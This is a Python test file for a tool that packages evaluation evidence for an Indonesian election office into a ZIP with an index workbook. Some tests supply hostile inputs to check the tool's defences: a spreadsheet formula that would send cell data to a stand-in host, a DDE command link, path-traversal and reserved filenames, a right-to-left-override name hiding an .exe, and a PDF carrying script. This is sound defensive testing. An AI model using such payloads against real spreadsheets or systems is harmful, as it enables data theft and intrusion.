"""The evidence package: the evaluators' folder tree, the index workbook, accepted-only, dedup, safe names."""

import io
import tempfile
import zipfile
from datetime import date
from urllib.parse import unquote

import pytest

from evidence_helpers import facts, index_rows, package, pdf, png
from zi_data.evidence import evidence
from zi_data.store.counting_rule import set_counting_rule
from zi_data.evidence.evidence_package import package_rows, write_package
from zi_data.files.package_names import FILE_BYTES
from zi_data.base.problems import Refusal

AREA_I = "AREA I - Pembangunan unit kerja untuk memperoleh predikat WBW_WBBMKPU"
TIM_KERJA = f"{AREA_I}/1. Tim Kerja/I-1-1"
HEADERS = ["ID", "Area", "Komponen", "Langkah Aksi", "Bulan", "Jenis", "Nama Asli / Tautan", "Berkas di Paket",
           "Ukuran (byte)", "SHA-256", "Status Verifikasi", "Ditambahkan oleh", "Ditambahkan pada (WIB)"]


def files_in(archive: zipfile.ZipFile) -> list[str]:
    return [name for name in archive.namelist() if name != "indeks_bukti.xlsx"]


def test_files_go_into_area_komponen_and_id_folders_named_by_id_and_month(store_on_each_backend):
    store = store_on_each_backend
    evidence.attach_file(store, "I-1-1", 1, "SK Tim ZI.pdf", pdf("sk"), "rina")
    evidence.attach_file(store, "I-3-1", 6, "undangan.png", png("rapat"), "rina")
    archive = package(store)
    assert archive.namelist()[0] == "indeks_bukti.xlsx"
    assert files_in(archive) == [
        f"{TIM_KERJA}/I-1-1_01-Januari_SK Tim ZI.pdf",
        f"{AREA_I}/3. Pemantauan dan Evaluasi Pembangunan WBK_ WBBM/I-3-1/I-3-1_06-Juni_undangan.png",
    ]
    assert archive.read(f"{TIM_KERJA}/I-1-1_01-Januari_SK Tim ZI.pdf") == pdf("sk")
    assert archive.testzip() is None


def test_the_index_lists_every_file_with_its_hash_status_and_a_link_inside_the_package(store):
    first = evidence.attach_file(store, "I-1-1", 1, "SK Tim ZI.pdf", pdf("sk"), "rina")
    evidence.attach_file(store, "I-1-1", 12, "evaluasi.pdf", pdf("evaluasi"), "rina")
    evidence.attach_link(store, "II-1-1", 3, "https://drive.example.go.id/sop?id=1&x=2", "budi")
    evidence.review(store, "I-1-1", 1, "diterima", "", "penilai")
    evidence.review(store, "I-1-1", 12, "perlu_perbaikan", "Belum ditandatangani", "penilai")
    archive = package(store, as_of=date(2025, 12, 31))
    rows = index_rows(archive)
    assert list(rows[0]) == HEADERS
    assert [(r["ID"].value, r["Bulan"].value, r["Status Verifikasi"].value) for r in rows] == [
        ("I-1-1", "Januari", "Diterima"), ("I-1-1", "Desember", "Perlu perbaikan"),
        ("II-1-1", "Maret", "Menunggu verifikasi")]
    sk = rows[0]
    stored = evidence.attachments(store).set_index("evidence_id").loc[first]
    assert sk["SHA-256"].value == stored["sha256"] and sk["Ukuran (byte)"].value == len(pdf("sk"))
    assert sk["Nama Asli / Tautan"].value == "SK Tim ZI.pdf" and sk["Jenis"].value == "PDF"
    assert sk["Area"].value == "I" and sk["Komponen"].value == "Tim Kerja"
    assert sk["Langkah Aksi"].value == store.plan().set_index("id").loc["I-1-1", "langkah_aksi"]
    for row in rows[:2]:  # the relative link opens the file once the ZIP is extracted
        member = row["Berkas di Paket"].value
        assert unquote(row["Berkas di Paket"].hyperlink.target) == member and member in archive.namelist()
    link = rows[2]
    assert link["Jenis"].value == "Tautan" and link["Ukuran (byte)"].value is None
    assert link["Berkas di Paket"].value == link["Berkas di Paket"].hyperlink.target == \
        "https://drive.example.go.id/sop?id=1&x=2"
    assert len(files_in(archive)) == 2, "a link is listed, never written as a file"


def test_the_index_names_the_office_year_and_counting_rule_in_force(store):
    evidence.attach_file(store, "I-1-1", 1, "sk.pdf", pdf(), "rina")
    set_counting_rule(store, "terverifikasi", "koordinator")
    noted = facts(package(store, as_of=date(2025, 7, 1)))
    assert noted["Kantor"] == "KPU Kabupaten Kapuas (6203)"
    assert noted["Tahun rencana aksi"] == "2025"
    assert noted["Aturan hitung capaian"] == "Selesai dengan bukti diterima penilai"
    assert noted["Isi paket"] == "Semua bukti terkini"
    assert noted["Dibuat pada"] == "1 Juli 2025"
    assert (noted["Jumlah berkas"], noted["Jumlah tautan"]) == (1, 0)


def test_accepted_only_keeps_only_evidence_a_penilai_accepted(store):
    evidence.attach_file(store, "I-1-1", 1, "diterima.pdf", pdf("a"), "rina")
    evidence.attach_file(store, "I-1-1", 12, "ditolak.pdf", pdf("b"), "rina")
    evidence.attach_file(store, "I-2-1", 2, "menunggu.pdf", pdf("c"), "rina")
    evidence.review(store, "I-1-1", 1, "diterima", "", "penilai")
    evidence.review(store, "I-1-1", 12, "perlu_perbaikan", "Salah berkas", "penilai")
    archive = package(store, accepted_only=True)
    assert files_in(archive) == [f"{TIM_KERJA}/I-1-1_01-Januari_diterima.pdf"]
    assert [row["Status Verifikasi"].value for row in index_rows(archive)] == ["Diterima"]
    assert facts(archive)["Isi paket"] == "Hanya bukti yang diterima penilai"
    assert len(files_in(package(store))) == 3


def test_a_change_after_the_review_takes_the_item_month_out_of_accepted_only(store):
    first = evidence.attach_file(store, "I-1-1", 1, "sk.pdf", pdf("v1"), "rina")
    evidence.review(store, "I-1-1", 1, "diterima", "", "penilai")
    evidence.attach_file(store, "I-1-1", 1, "sk.pdf", pdf("v2"), "rina", replaces=first)
    assert files_in(package(store, accepted_only=True)) == []
    archive = package(store)
    assert files_in(archive) == [f"{TIM_KERJA}/I-1-1_01-Januari_sk.pdf"]  # only the current version
    assert archive.read(files_in(archive)[0]) == pdf("v2")


def test_the_same_content_is_stored_once_per_id_folder_and_each_row_links_to_it(store):
    for month in (1, 12):
        evidence.attach_file(store, "I-1-1", month, "SK Tim ZI.pdf", pdf("sk"), "rina")
    evidence.attach_file(store, "I-2-1", 2, "SK Tim ZI.pdf", pdf("sk"), "rina")
    archive = package(store)
    assert files_in(archive) == [f"{TIM_KERJA}/I-1-1_01-Januari_SK Tim ZI.pdf",
                                 f"{AREA_I}/2. Dokumen Rencana Aksi/I-2-1/I-2-1_02-Februari_SK Tim ZI.pdf"]
    rows = index_rows(archive)
    assert len(rows) == 3
    assert {row["Berkas di Paket"].value for row in rows if row["ID"].value == "I-1-1"} == {files_in(archive)[0]}
    assert facts(archive)["Berkas di paket (tanpa duplikat per ID)"] == 2


def test_text_in_the_index_is_never_a_formula(store):
    hostile = '=HYPERLINK("evil.example?d="&A1,"klik").pdf'
    evidence.attach_file(store, "I-1-1", 1, hostile, pdf(), "@rina")
    evidence.attach_link(store, "I-1-1", 2, "https://example.com/=cmd|calc!A1", "+budi")
    archive = package(store)
    sheet_xml = archive.open("indeks_bukti.xlsx")
    with zipfile.ZipFile(sheet_xml) as book:
        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")
    rows = index_rows(archive)
    assert rows[0]["Nama Asli / Tautan"].value == "'" + hostile
    assert rows[0]["Ditambahkan oleh"].value == "'@rina"
    assert rows[1]["Ditambahkan oleh"].value == "'+budi"
    assert all(cell.data_type != "f" for row in rows for cell in row.values())


def test_hostile_original_names_become_safe_names_inside_their_id_folder(store):
    long_name = "Laporan " * 50 + ".pdf"
    for number, name in enumerate(["../../x.pdf", "..\\..\\boot.ini.pdf", "CON.pdf", "/etc/passwd",
                                   long_name, "rapat\u202efdp.exe", "x.pdf", "X.PDF"]):
        evidence.attach_file(store, "I-1-1", 1, name, pdf(str(number)), "rina")
    names = files_in(package(store))
    assert all(name.startswith(f"{TIM_KERJA}/I-1-1_01-Januari_") for name in names)
    assert all(".." not in name.split("/") and "\\" not in name and ":" not in name for name in names)
    files = [name.rsplit("/", 1)[1] for name in names]
    assert files[:4] == ["I-1-1_01-Januari_x.pdf", "I-1-1_01-Januari_boot.ini.pdf", "I-1-1_01-Januari_CON.pdf",
                         "I-1-1_01-Januari_passwd.pdf"]
    assert files[4].endswith(".pdf") and len(files[4].encode()) <= FILE_BYTES
    assert files[5] == "I-1-1_01-Januari_rapatfdp.pdf"  # the sniffed type's extension replaces the given one
    assert files[6:] == ["I-1-1_01-Januari_x (2).pdf", "I-1-1_01-Januari_X (3).PDF"]
    assert len({name.lower() for name in names}) == len(names)


def test_a_pdf_uploaded_as_html_is_packed_under_the_pdf_extension(store):
    """A valid PDF with a page and script after its first kilobyte, named .html, is packed as .pdf."""
    evidence.attach_file(store, "I-1-1", 1, "rechnung.html", pdf("r") + b"\n" * 1100 + b"<script>alert(1)</script>",
                         "rina")
    assert files_in(package(store)) == [f"{TIM_KERJA}/I-1-1_01-Januari_rechnung.pdf"]


def test_the_package_streams_to_a_stream_that_cannot_seek(store):
    evidence.attach_file(store, "I-1-1", 1, "sk.pdf", pdf("sk", size=300_000), "rina")

    class Pipe(io.RawIOBase):
        def __init__(self):
            self.received = bytearray()

        def writable(self):
            return True

        def write(self, data):
            self.received += data
            return len(data)

    pipe = Pipe()
    write_package(store, pipe)
    archive = zipfile.ZipFile(io.BytesIO(bytes(pipe.received)))
    assert archive.testzip() is None
    assert archive.read(f"{TIM_KERJA}/I-1-1_01-Januari_sk.pdf") == pdf("sk", size=300_000)


def test_the_package_builds_in_a_spooled_temporary_file(store):
    evidence.attach_file(store, "I-1-1", 1, "sk.pdf", pdf("sk", size=300_000), "rina")
    with tempfile.SpooledTemporaryFile(max_size=100_000) as spool:
        summary = write_package(store, spool)
        assert spool._rolled, "past its size the spool is on disk, not in memory"
        spool.seek(0)
        assert zipfile.ZipFile(spool).read(f"{TIM_KERJA}/I-1-1_01-Januari_sk.pdf") == pdf("sk", size=300_000)
    assert (summary.files, summary.links, summary.stored) == (1, 0, 1)


def test_an_empty_year_gives_an_index_and_no_files(store):
    archive = package(store)
    assert archive.namelist() == ["indeks_bukti.xlsx"]
    assert index_rows(archive) == []
    assert package_rows(store).empty


def test_evidence_of_a_step_no_longer_in_the_plan_goes_to_its_own_folder(store, monkeypatch):
    evidence.attach_file(store, "I-1-1", 1, "sk.pdf", pdf(), "rina")
    evidence.attach_file(store, "I-2-1", 1, "rencana.pdf", pdf("rencana"), "rina")
    plan = store.plan()
    monkeypatch.setattr(store, "plan", lambda: plan[plan["id"] != "I-1-1"].reset_index(drop=True))
    archive = package(store)
    assert files_in(archive) == [f"{AREA_I}/2. Dokumen Rencana Aksi/I-2-1/I-2-1_01-Januari_rencana.pdf",
                                 "Tanpa langkah aksi/I-1-1/I-1-1_01-Januari_sk.pdf"]
    assert index_rows(archive)[1]["Area"].value is None


def test_a_stored_file_gone_from_disk_is_named_in_the_error(store):
    evidence.attach_file(store, "I-1-1", 1, "sk.pdf", pdf(), "rina")
    evidence.blob_file(store, evidence.attachments(store)["sha256"][0]).unlink()
    with pytest.raises(Refusal, match="I-1-1_01-Januari_sk.pdf' tidak ada di penyimpanan bukti"):
        package(store)
